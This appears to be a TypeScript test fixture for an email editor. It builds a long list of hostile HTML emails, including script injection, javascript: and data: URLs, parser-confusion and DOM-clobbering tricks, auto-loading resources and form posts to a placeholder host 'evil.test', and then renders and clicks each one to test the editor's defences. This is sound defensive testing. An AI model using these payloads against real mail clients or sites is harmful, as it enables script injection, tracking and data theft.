/** Placeholder for the attacker's server. */
const EVIL = 'http://evil.test'

const SCRIPT = `parent.postMessage('ran','*');fetch('${EVIL}/ran')`

const handlers =
  `onload onerror onclick onmouseover onmousemove onfocus onfocusin onblur oninput onchange onkeydown
  onpointerdown onpointermove onpointerenter onwheel onscroll onanimationstart onanimationend ontransitionend
  onbeforetoggle ontoggle onsubmit oncopy onpaste ondragstart onresize onpageshow onhashchange onmessage`.split(
    /\s+/,
  )

const urls = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  ` javascript:${SCRIPT}`,
  `java&#10;script:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `${EVIL}/away`,
  `//evil.test/away`,
  `blob:${EVIL}/x`,
]

/** Things that load automatically. */
const loads = [
  `<img src="${EVIL}/i.png">`,
  `<img srcset="${EVIL}/i.png 1x, ${EVIL}/j.png 2x">`,
  `<picture><source srcset="${EVIL}/i.png"><img alt=""></picture>`,
  `<div style="background:url(${EVIL}/b.png);height:20px">x</div>`,
  `<div style="background-image:image-set(url(${EVIL}/b.png) 1x);height:20px">x</div>`,
  `<style>@import url(${EVIL}/a.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff2)}p{font-family:x}</style><p>x</p>`,
  `<style>p{list-style-image:url(${EVIL}/l.png);display:list-item}</style><p>x</p>`,
  `<style>p::before{content:url(${EVIL}/c.png)}</style><p>x</p>`,
  `<style>p{cursor:url(${EVIL}/c.cur),auto}</style><p>x</p>`,
  `<link rel="stylesheet" href="${EVIL}/a.css">`,
  `<link rel="preload" as="image" href="${EVIL}/p.png">`,
  `<link rel="prefetch" href="${EVIL}/p">`,
  `<link rel="dns-prefetch" href="//evil.test">`,
  `<link rel="preconnect" href="${EVIL}">`,
  `<link rel="modulepreload" href="${EVIL}/m.js">`,
  `<link rel="icon" href="${EVIL}/f.ico">`,
  `<link rel="manifest" href="${EVIL}/m.json">`,
  `<video src="${EVIL}/v.mp4" autoplay muted></video>`,
  `<video poster="${EVIL}/p.png"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<video><source src="${EVIL}/v.mp4"><track src="${EVIL}/t.vtt" default></video>`,
  `<object data="${EVIL}/o.html"></object>`,
  `<embed src="${EVIL}/e.swf">`,
  `<iframe src="${EVIL}/i.html"></iframe>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<frameset><frame src="${EVIL}/f.html"></frameset>`,
  `<portal src="${EVIL}/p.html"></portal>`,
  `<svg><image href="${EVIL}/s.png" width="9" height="9"/></svg>`,
  `<svg><image xlink:href="${EVIL}/s.png" width="9" height="9"/></svg>`,
  `<svg><use href="${EVIL}/s.svg#a"/></svg>`,
  `<svg><feImage href="${EVIL}/s.png"/></svg>`,
  `<svg><style>@import url(${EVIL}/a.css)</style></svg>`,
  `<input type="image" src="${EVIL}/i.png">`,
  `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">x</table>`,
  `<body background="${EVIL}/b.png">`,
  `<script src="${EVIL}/s.js"></script>`,
  `<script type="module">import '${EVIL}/m.js'</script>`,
  `<script type="importmap">{"imports":{"a":"${EVIL}/a.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/x"]}]}</script>`,
]

/** Things that run or navigate automatically. */
const actions = [
  `<script>${SCRIPT}</script>`,
  `<scr<script>ipt>${SCRIPT}</script>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg onload="${SCRIPT}"></svg>`,
  `<svg><animate onbegin="${SCRIPT}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${SCRIPT}"/><text y="20">x</text></a></svg>`,
  `<svg><set attributeName="onload" to="${SCRIPT}"/></svg>`,
  `<math><mtext><script>${SCRIPT}</script></mtext></math>`,
  `<math><maction xlink:href="javascript:${SCRIPT}">x</maction></math>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<base href="${EVIL}/"><a href="away">x</a>`,
  `<base target="_top"><a href="${EVIL}/away">x</a>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<div><template shadowrootmode="open"><script>${SCRIPT}</script><img src="${EVIL}/s.png"></template></div>`,
  `<noscript><img src="${EVIL}/n.png"></noscript>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
  `<!--[if mso]><script>${SCRIPT}</script><![endif]-->`,
  `<!--><script>${SCRIPT}</script>-->`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `<xmp><script>${SCRIPT}</script></xmp>`,
  `<textarea></textarea><script>${SCRIPT}</script>`,
  `<title></title><script>${SCRIPT}</script>`,
  `<style></style><script>${SCRIPT}</script>`,
  `<select><option><script>${SCRIPT}</script></select>`,
  `<details open ontoggle="${SCRIPT}"><summary>x</summary></details>`,
  `<dialog open oncancel="${SCRIPT}">x</dialog>`,
  `<button popovertarget="p" onclick="${SCRIPT}">x</button><div id="p" popover onbeforetoggle="${SCRIPT}">y</div>`,
  `<input autofocus onfocus="${SCRIPT}">`,
  `<marquee onstart="${SCRIPT}">x</marquee>`,
  `<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="${SCRIPT}">x</p>`,
  `<div style="width:expression(${SCRIPT});behavior:url(${EVIL}/b.htc)">x</div>`,
  `<a href="${EVIL}/away" ping="${EVIL}/ping" target="_top">x</a>`,
  `<a href="${EVIL}/away" download>x</a>`,
  `<map name="m"><area shape="default" href="${EVIL}/away" alt="x"></map>`,
  `<img id="x" name="x"><form id="x" action="${EVIL}/post"><input name="action"></form>`,
]

/** Elements that interfere with the canvas script. */
const obstacles = [
  `<body style="x"">`,
  `<p a"b='c' "'<=1>x</p>`,
  `<form><input name="getAttributeNames"><input name="removeAttribute"></form>`,
  `<form><input name="attributes"><button id="childNodes">x</button><img name="isEqualNode"></form>`,
  `<form class="a" name="body"><input name="classList"><input name="remove"><input id="nodeName"></form>`,
  `<img name="documentElement"><img name="querySelectorAll"><img name="createTreeWalker">`,
]

const forms = [
  `<form action="${EVIL}/post" method="post"><input name="a" value="1"><button>x</button></form>`,
  `<form action="${EVIL}/get"><button>x</button></form>`,
  `<form id="f" action="${EVIL}/post"></form><button form="f">x</button>`,
  `<form><button formaction="${EVIL}/post">x</button></form>`,
  `<form action="${EVIL}/post" target="_top"><button>x</button></form>`,
  `<form method="dialog"><button formmethod="post" formaction="javascript:${SCRIPT}">x</button></form>`,
]

const templates = [
  ...handlers.map((name) => `<p tabindex="0" ${name}="${SCRIPT}" style="height:20px">x</p>`),
  ...urls.map((url) => `<a href="${url}">x</a>`),
  ...urls.map((url) => `<form action="${url}"><button>x</button></form>`),
  ...loads,
  ...actions,
  ...obstacles,
  ...forms,
]

/** HTML that an attacker might put into an email to attack its recipients or its editors. */
export const hostileEmails = (host: string): string[] =>
  templates.map((html) => html.replaceAll('evil.test', host))

const headingOf = (index: number) => `Email ${index}`

/** Renders each email on the canvas once `interactWithEach` has finished with the previous one. Runs in the page. */
export const renderEach = (emails: readonly string[]) => `(async () => {
  const canvas = document.querySelector('iframe[title="Canvas"]').contentWindow
  const pages = ${JSON.stringify(emails.map((email, index) => pageOf(headingOf(index), email)))}
  for (const [index, html] of pages.entries()) {
    const { promise, resolve } = Promise.withResolvers()
    const onMessage = ({ data }) => { if (data?.done === index) resolve() }
    addEventListener('message', onMessage)
    canvas.postMessage(JSON.stringify({ kind: 'canvas', prefix: 'fpmx', css: '', editedMark: null, html }), '*')
    await promise
    removeEventListener('message', onMessage)
  }
})()`

const pageOf = (heading: string, email: string) =>
  `<!doctype html><html><body><h1>${heading}</h1>${email}</body></html>`

/**
 * Clicks and focuses everything interactive in each email, waits until it is painted, and returns the number of
 * elements. Runs in the canvas.
 */
export const interactWithEach = (count: number) => `(async () => {
  const waitForEmail = (heading) => new Promise((resolve) => {
    const check = () =>
      document.querySelector('h1')?.textContent === heading ? resolve() : setTimeout(check)
    check()
  })
  let elements = 0
  for (const [index, heading] of ${JSON.stringify(Array.from({ length: count }, (_, index) => headingOf(index)))}.entries()) {
    await waitForEmail(heading)
    const nodes = document.querySelectorAll('a, area, button, input, p, summary')
    for (const node of nodes) {
      node.click?.()
      node.focus()
    }
    elements += nodes.length
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
    parent.postMessage({ done: index }, '*')
  }
  return elements
})()`
